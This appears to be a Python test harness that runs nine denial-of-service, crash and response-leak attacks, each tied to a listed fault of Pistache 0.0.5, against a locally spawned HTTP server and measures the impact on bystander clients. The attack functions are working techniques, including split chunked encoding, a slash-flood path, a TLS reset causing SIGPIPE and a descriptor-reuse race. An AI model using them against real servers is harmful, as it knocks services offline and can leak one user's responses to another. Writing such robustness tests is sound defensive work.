"""Nine attacks on an HTTP server, one for each fault of Debian's Pistache 0.0.5, and what a bystander sees afterwards.

    seen = f1_split_between_cr_and_lf(Target(process, port))
    assert seen.harmless(), seen

Whose server it is, an attack does not know: test_bare_pistache.py shows that each of them hurts Pistache's own
endpoint, so it says something if another server stands them. Attacks are bounded in time.

| | the client | Pistache 0.0.5 |
|---|---|---|
| F1 | splits a chunked body between CR and LF | the worker spins for ever |
| F2 | does not read what it asked for | the worker spins as long as the client stays |
| F3 | asks and closes while others come | its answer goes to the connection that got its descriptor |
| F4 | sends a path of many slashes | std::regex runs out of stack |
| F5 | resets a TLS connection in the midst of an answer | SIGPIPE ends the process |
| F6 | connects to the TLS port and says nothing | no other client connects for ten seconds |
| F7 | reads, or leaves, a stream fed by another thread | abort, double free or SIGSEGV: two threads in one queue |
| F8 | uses methods that no route has | two workers insert into one map |
| F9 | asks a handler that throws what is no std::exception | abort |
"""

import contextlib
import dataclasses
import os
import socket
import ssl
import struct
import subprocess
import time

CONNECT = 15  # seconds for a handshake: longer than F6 blocks other clients
ANSWER = 2  # seconds after which a bystander gives up
SPINNING = 0.8  # of one CPU
BYSTANDERS = 4  # connections, so that each of two workers gets some


@dataclasses.dataclass(frozen=True)
class Target:
    """A server, and its paths. Where it has nothing like the path of an attack, that attack is not for it."""

    process: subprocess.Popen  # the server itself, so that its death is seen
    port: int
    tls: ssl.SSLContext | None = None
    host: str = "127.0.0.1"
    small: str = "/small"
    echo: str = "/echo"  # POST; the body comes back
    big: str | None = "/big/8000000"  # more than the kernel buffers for a client that does not read
    big_requests: int = 1  # how often to ask for it on one connection until it is that much
    slow: str | None = "/slow/400"  # the handler itself takes so many ms
    stream: str | None = "/stream"
    throw: str | None = "/throw"


@dataclasses.dataclass(frozen=True)
class Observation:
    died: int | None = None  # signal (negative) or exit status
    busy: float = 0.0  # of one CPU, what the busiest thread ran or wanted to run over a second
    latency: float | None = None  # s until the slowest of some new clients had its answer; None: one got none
    answer: bytes = b""  # what the attacker got
    strayed: bytes = b""  # what a client got that had asked for nothing

    def harmless(self, latency=1.0):
        return (self.died is None and self.busy < SPINNING / 2 and self.latency is not None and self.latency < latency
                and not self.strayed)


# The attacks


def f1_split_between_cr_and_lf(target: Target) -> Observation:
    with connected(target) as client:
        with contextlib.suppress(OSError):  # here and below: a server may hang up, that is no harm
            client.sendall(head("POST", target.echo, "Transfer-Encoding: chunked") + b"5\r\nhello\r")
            wait_until_read(target, client)
            client.sendall(b"\n0\r\n\r\n")
        return observe(target, answer=read_for(client, ANSWER, until=b"hello"))


def f2_unread_answers(target: Target) -> Observation:
    with connected(target, receive_buffer=4096) as client:
        with contextlib.suppress(OSError):
            for _ in range(target.big_requests):
                client.sendall(head("GET", target.big))
                if not wait_until_read(target, client, deadline=0.3):
                    break  # it reads no further: stuck, or wise
        return observe(target)


def f3_answer_to_another(target: Target, tries: int = 5) -> Observation:
    """Needs one worker."""
    strayed = b""
    for _ in range(tries):
        with contextlib.suppress(OSError):
            strayed = what_a_newcomer_gets(target)
        if strayed or target.process.poll() is not None:
            break
    return observe(target, strayed=strayed)


def what_a_newcomer_gets(target):
    """What happens while a handler runs is all ready when it ends, and is dealt with in the order in which it happened.

    In A's handler: C asks, D connects, A closes. Then A's answer is queued and A's descriptor closed. In C's handler: B
    connects and gets that descriptor. Next in turn are D's arrival, with it B's, and then the queue of answers.
    """
    with contextlib.ExitStack() as clients:
        c = clients.enter_context(connected(target))
        ask(c, target.small)
        others = sockets_of(target)
        a = clients.enter_context(connected(target))
        ask(a, target.small)
        contested = sockets_of(target) - others
        a.sendall(head("GET", target.slow))
        wait_until_read(target, a)
        c.sendall(head("GET", target.slow))
        clients.enter_context(connected(target))  # D
        a.close()
        wait_until(lambda: not sockets_of(target) & contested)
        b = clients.enter_context(connected(target))
        return read_for(b, 1.5)


def f4_many_slashes(target: Target, slashes: int = 60_000) -> Observation:
    with connected(target) as client:
        with contextlib.suppress(OSError):
            client.sendall(head("GET", "/" * slashes))
        return observe(target, answer=read_for(client, ANSWER, until=b"\r\n\r\n"))


def f5_reset_in_answer(target: Target, tries: int = 20) -> Observation:
    """A write after a reset fails with ECONNRESET once and with SIGPIPE from then on; after FIN and reset, at once."""
    for attempt in range(tries):
        with connected(target, receive_buffer=4096) as client, contextlib.suppress(OSError):
            client.sendall(head("GET", target.big))
            client.recv(1)
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            if attempt % 2:
                client.shutdown(socket.SHUT_WR)
        if ended(target, within=0.3) is not None:
            break
    return observe(target)


def f6_silent_handshake(target: Target) -> Observation:
    with contextlib.closing(socket.create_connection((target.host, target.port), CONNECT)):
        return observe(target, patience=CONNECT)


def f7_stream_from_another_thread(target: Target, seconds: float = 8) -> Observation:
    end = time.monotonic() + seconds
    while time.monotonic() < end and target.process.poll() is None:
        with contextlib.ExitStack() as clients, contextlib.suppress(OSError):
            streams = [clients.enter_context(connected(target)) for _ in range(10)]
            for stream in streams:
                stream.sendall(head("GET", target.stream))
            for stream in streams[::2]:
                stream.recv(1)
                stream.close()
            for stream in streams[1::2]:
                read_for(stream, 0.5, until=b"\r\n0\r\n\r\n")
    return observe(target)


def f8_unregistered_methods(target: Target) -> Observation:
    """Needs two workers, and a race detector in the server or below it, whose report says what happened."""
    answer = b""
    with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
        clients = [stack.enter_context(connected(target)) for _ in range(BYSTANDERS)]
        for method in ("PUT", "DELETE", "PATCH", "OPTIONS"):
            for client in clients:
                client.sendall(head(method, target.small))
            for client in clients:
                answer = read_for(client, CONNECT, until=b"\r\n\r\n")
    return observe(target, answer=answer, patience=CONNECT)


def f9_foreign_exception(target: Target) -> Observation:
    with connected(target) as client:
        client.sendall(head("GET", target.throw))
        return observe(target, answer=read_for(client, ANSWER, until=b"\r\n\r\n"))


# What a bystander sees


def observe(target, answer=b"", strayed=b"", patience=ANSWER):
    """Also the control: without an attack it must be harmless()."""
    latency = worst_latency(target, patience)
    # A process closes what it has some time before its end is to be seen.
    died = target.process.poll() if sockets_of(target) else ended(target, within=ANSWER)
    return Observation(died, 0.0 if died else busiest_thread(target), latency, answer, strayed)


def ended(target, within):
    with contextlib.suppress(subprocess.TimeoutExpired):
        return target.process.wait(within)
    return None


def worst_latency(target, patience):
    worst = 0.0
    with contextlib.ExitStack() as clients:
        for _ in range(BYSTANDERS):
            begin = time.monotonic()
            try:
                client = clients.enter_context(connected(target, patience))
                if not ask(client, target.small, patience):
                    return None
            except OSError:
                return None
            worst = max(worst, time.monotonic() - begin)
    return worst


def busiest_thread(target, seconds=1.0):
    """Waiting for a CPU counts as running: a thread that spins shows it on a busy machine too."""
    before, begin = cpu_wanted(target), time.monotonic()
    time.sleep(seconds)  # the measurement itself
    after, end = cpu_wanted(target), time.monotonic()
    return max((after[thread] - before[thread] for thread in before.keys() & after.keys()), default=0) / (end - begin)


def cpu_wanted(target):
    """Seconds by thread, from /proc/PID/task/TID/schedstat: ns run, ns waited for a CPU, slices."""
    wanted = {}
    with contextlib.suppress(OSError):
        for thread in os.listdir(f"/proc/{target.process.pid}/task"):
            with contextlib.suppress(OSError), open(f"/proc/{target.process.pid}/task/{thread}/schedstat") as file:
                ran, waited, _ = map(int, file.read().split())
                wanted[thread] = (ran + waited) / 1e9
    return wanted


def sockets_of(target):
    """Descriptors of the server that are sockets."""
    folder, found = f"/proc/{target.process.pid}/fd", set()
    with contextlib.suppress(OSError):
        for fd in os.listdir(folder):
            with contextlib.suppress(OSError):
                if os.readlink(f"{folder}/{fd}").startswith("socket:"):
                    found.add(int(fd))
    return found


# The wire


def head(method, path, *more):
    lines = [f"{method} {path} HTTP/1.1", "Host: localhost", "Connection: keep-alive", *more]
    return "\r\n".join([*lines, "", ""]).encode()


@contextlib.contextmanager
def connected(target, timeout=CONNECT, receive_buffer=None):
    client = socket.socket()
    try:
        if receive_buffer:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)  # only before connect()
        client.settimeout(timeout)
        client.connect((target.host, target.port))
        client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if target.tls:
            client = target.tls.wrap_socket(client, server_hostname=target.host)
        yield client
    finally:
        client.close()


def ask(client, path, timeout=CONNECT):
    client.sendall(head("GET", path))
    return read_for(client, timeout, until=b"\r\n\r\n")


def read_for(client, seconds, until=None):
    """What comes in so many seconds, or up to the first sight of `until`, or to the end of the connection."""
    end, got = time.monotonic() + seconds, b""
    with contextlib.suppress(OSError):
        while (left := end - time.monotonic()) > 0 and not (until and until in got):
            client.settimeout(left)
            piece = client.recv(65536)
            if not piece:
                break
            got += piece
    return got


def wait_until(condition, deadline=2.0):
    end = time.monotonic() + deadline
    while not (seen := condition()) and time.monotonic() < end:
        time.sleep(0.001)
    return bool(seen)


def wait_until_read(target, client, deadline=2.0):
    """Nothing of what the client sent is still on its way or in the server's socket buffer."""
    ours, theirs = client.getsockname()[1], target.port

    def unread():
        total = 0
        for table in ("tcp", "tcp6"):
            with open(f"/proc/{target.process.pid}/net/{table}") as file:
                for row in list(map(str.split, file))[1:]:
                    ports = tuple(int(address.rpartition(":")[2], 16) for address in row[1:3])
                    unacknowledged, unfetched = (int(count, 16) for count in row[4].split(":"))
                    total += unacknowledged * (ports == (ours, theirs)) + unfetched * (ports == (theirs, ours))
        return total

    # The rows are not read at one instant: acknowledged first, then gone from the server's buffer.
    return wait_until(lambda: unread() == 0 and unread() == 0, deadline)
